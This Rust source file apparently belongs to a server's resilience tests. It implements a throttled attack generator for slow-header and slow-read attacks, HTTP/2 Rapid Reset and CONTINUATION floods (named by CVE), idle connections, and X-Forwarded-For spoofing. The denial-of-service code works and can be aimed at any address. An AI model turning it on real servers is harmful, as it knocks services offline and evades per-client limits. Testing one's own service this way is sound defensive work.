//! Hostile traffic: many connections that say too little, too much, or something else than they are.
//!
//! One thread does it, over sockets that never block, and holds itself to a share of a processor: so an attack means
//! the same on every machine. What the other end closes is opened again at once.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use rustix::time::{ClockId, clock_gettime};

use crate::h2;

/// How often a connection that does little is visited.
const VISIT: Duration = Duration::from_millis(200);
/// After so many visits an answer that is not taken is asked for anew: who takes nothing does not learn that the other
/// end has had enough.
const PATIENCE: u32 = 10;

/// What is done to a server.
#[derive(Debug, Clone)]
pub enum Attack {
    /// Heads of HTTP/1.1 that go on by one byte and never end.
    SlowHeads,
    /// This target is asked for, and nothing of the answer taken.
    SlowReads(String),
    /// Streams of HTTP/2 that are given up as soon as they were opened (CVE-2023-44487).
    RapidReset(String),
    /// A head of HTTP/2 that goes on in frames without an end (CVE-2024-27316).
    Continuation,
    /// One request, and then nothing.
    Idle,
    /// This target is asked for over and over, each time from another network as `X-Forwarded-For` says; before what
    /// the second text says, which a proxy would append.
    Networks(String, Option<String>),
}

/// What became of an attack.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Tally {
    /// Connections that were made.
    pub connections: u64,
    /// Most of them at once.
    pub open: usize,
    /// Connections that the server closed.
    pub closed: u64,
    /// Bytes that were sent.
    pub bytes: u64,
    /// Requests, streams or frames that were sent.
    pub sent: u64,
}

/// An attack that goes on until it is stopped or dropped.
#[derive(Debug)]
pub struct Attacker {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<Tally>>,
}

impl Attack {
    /// Begins, over so many connections to `IP:PORT`, with a share of one processor.
    pub fn start(self, address: &str, connections: usize, share: f64) -> Result<Attacker> {
        let address = address.parse().with_context(|| format!("not an address: {address}"))?;
        let stop = Arc::new(AtomicBool::new(false));
        let told = Arc::clone(&stop);
        let crowd = Crowd {
            attack: self,
            address,
            hands: (0..connections).map(|_| None).collect(),
            random: 0x9e37_79b9_7f4a_7c15,
            tally: Tally::default(),
        };
        let thread = thread::Builder::new()
            .name("attacker".to_owned())
            .spawn(move || crowd.go_on(&told, share))?;
        Ok(Attacker { stop, thread: Some(thread) })
    }
}

impl Attacker {
    /// Ends it; what became of it.
    pub fn stop(mut self) -> Tally {
        self.end().unwrap_or_default()
    }

    fn end(&mut self) -> Option<Tally> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.take()?.join().ok()
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.end();
    }
}

struct Crowd {
    attack: Attack,
    address: SocketAddr,
    hands: Vec<Option<Hand>>,
    random: u64,
    tally: Tally,
}

/// One connection.
struct Hand {
    stream: TcpStream,
    /// What it still has to send.
    unsent: Vec<u8>,
    /// Visits before this one.
    visits: u32,
}

impl Crowd {
    fn go_on(mut self, stop: &AtomicBool, share: f64) -> Tally {
        let start = (Instant::now(), processor_time());
        loop {
            let round = Instant::now();
            let mut moved = 0;
            for at in 0..self.hands.len() {
                if stop.load(Ordering::Relaxed) {
                    return self.tally;
                }
                moved += self.visit(at);
                let used = processor_time().saturating_sub(start.1);
                let ahead = used.div_f64(share).saturating_sub(start.0.elapsed());
                if ahead > Duration::from_millis(2) {
                    thread::sleep(ahead);
                }
            }
            let open = self.hands.iter().flatten().count();
            self.tally.open = self.tally.open.max(open);
            let is_slow =
                matches!(self.attack, Attack::SlowHeads | Attack::SlowReads(_) | Attack::Idle);
            if is_slow || moved == 0 {
                thread::sleep(VISIT.saturating_sub(round.elapsed()));
            }
        }
    }

    /// Does what there is to do on one connection; how many bytes were sent.
    fn visit(&mut self, at: usize) -> u64 {
        let Some(mut hand) = self.hands[at].take() else {
            self.hands[at] = self.connect();
            return 0;
        };
        if hand.visits > PATIENCE && matches!(self.attack, Attack::SlowReads(_)) {
            return 0;
        }
        if hand.unsent.is_empty() {
            self.say_more(&mut hand);
        }
        let before = hand.unsent.len();
        if hand.is_open(!matches!(self.attack, Attack::SlowReads(_))) {
            let sent = (before - hand.unsent.len()) as u64;
            self.tally.bytes += sent;
            self.hands[at] = Some(hand);
            return sent;
        }
        self.tally.closed += 1;
        0
    }

    fn connect(&mut self) -> Option<Hand> {
        let stream = TcpStream::connect_timeout(&self.address, Duration::from_secs(1)).ok()?;
        stream.set_nonblocking(true).ok()?;
        stream.set_nodelay(true).ok()?;
        self.tally.connections += 1;
        Some(Hand { stream, unsent: Vec::new(), visits: 0 })
    }

    fn say_more(&mut self, hand: &mut Hand) {
        let first = hand.visits == 0;
        let stream = hand.visits * 2 * 64 + 1;
        hand.visits += 1;
        let request =
            |target: &str| format!("GET {target} HTTP/1.1\r\nHost: front\r\n\r\n").into_bytes();
        hand.unsent = match &self.attack {
            Attack::SlowHeads if first => b"GET /v2/ HTTP/1.1\r\nHost: front\r\nX-Slow: ".to_vec(),
            Attack::SlowHeads => b"a".to_vec(),
            Attack::SlowReads(target) if first => request(target),
            Attack::Idle if first => request("/v2/"),
            Attack::SlowReads(_) | Attack::Idle => return,
            Attack::RapidReset(_) | Attack::Continuation if first => h2::BEGINNING.to_vec(),
            Attack::RapidReset(target) => (0..64)
                .flat_map(|n| [h2::get(stream + 2 * n, target), h2::reset(stream + 2 * n)].concat())
                .collect(),
            Attack::Continuation => {
                let begin = h2::get_without_end(stream, "/v2/");
                [begin, h2::continuation(stream, 4).repeat(64)].concat()
            }
            Attack::Networks(target, appended) => {
                let appended = appended.as_ref().map(|it| format!(", {it}")).unwrap_or_default();
                let mut requests = Vec::new();
                for _ in 0..8 {
                    self.random ^= self.random << 13;
                    self.random ^= self.random >> 7;
                    self.random ^= self.random << 17;
                    let [a, b, c, ..] = self.random.to_le_bytes();
                    requests.extend(
                        format!("GET {target} HTTP/1.1\r\nHost: front\r\nX-Forwarded-For: {a}.{b}.{c}.1{appended}\r\n\r\n").into_bytes(),
                    );
                }
                requests
            }
        };
        self.tally.sent += match &self.attack {
            Attack::RapidReset(_) | Attack::Continuation => 64,
            Attack::Networks(..) => 8,
            Attack::SlowHeads | Attack::SlowReads(_) | Attack::Idle => u64::from(first),
        };
    }
}

impl Hand {
    /// Sends what there is to send and, if answers are taken, takes what came; whether the connection is still open.
    fn is_open(&mut self, takes: bool) -> bool {
        match self.stream.write(&self.unsent) {
            Ok(sent) => {
                self.unsent.drain(..sent);
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(_) => return false,
        }
        let mut taken = [0; 16 << 10];
        let most = if takes { taken.len() } else { 1 };
        loop {
            match self.stream.read(&mut taken[..most]) {
                Ok(0) => return false,
                Ok(_) if takes => {}
                Ok(_) => return true,
                Err(error) => return error.kind() == ErrorKind::WouldBlock,
            }
        }
    }
}

/// What this thread has used of a processor.
fn processor_time() -> Duration {
    let time = clock_gettime(ClockId::ThreadCPUTime);
    Duration::new(time.tv_sec.unsigned_abs(), u32::try_from(time.tv_nsec).unwrap_or(0))
}
